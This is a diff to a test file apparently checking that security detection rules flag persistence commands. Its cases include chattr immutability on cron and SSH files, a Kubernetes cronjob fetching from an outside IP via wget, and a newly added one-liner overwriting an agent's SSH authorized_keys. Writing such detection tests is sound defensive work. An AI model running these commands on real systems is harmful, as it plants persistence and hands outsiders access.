@@ -57,6 +57,7 @@ def test_rules_load_cleanly():
     ("chattr +i /etc/cron.d/job", "file_made_immutable"),
     ("chattr -R +ia ~/.ssh", "file_made_immutable"),
     ("kubectl create cronjob sync --image=alpine --schedule='0 * * * *' -- wget -qO- http://198.51.100.4/x", 'orchestrator_scheduled_job'),
+    ("python3 -c \"from pathlib import Path; Path('/home/agent/.ssh/authorized_keys').write_text('ssh-ed25519 AAAAC3 k@h')\"", "ssh_authorized_keys_modified"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
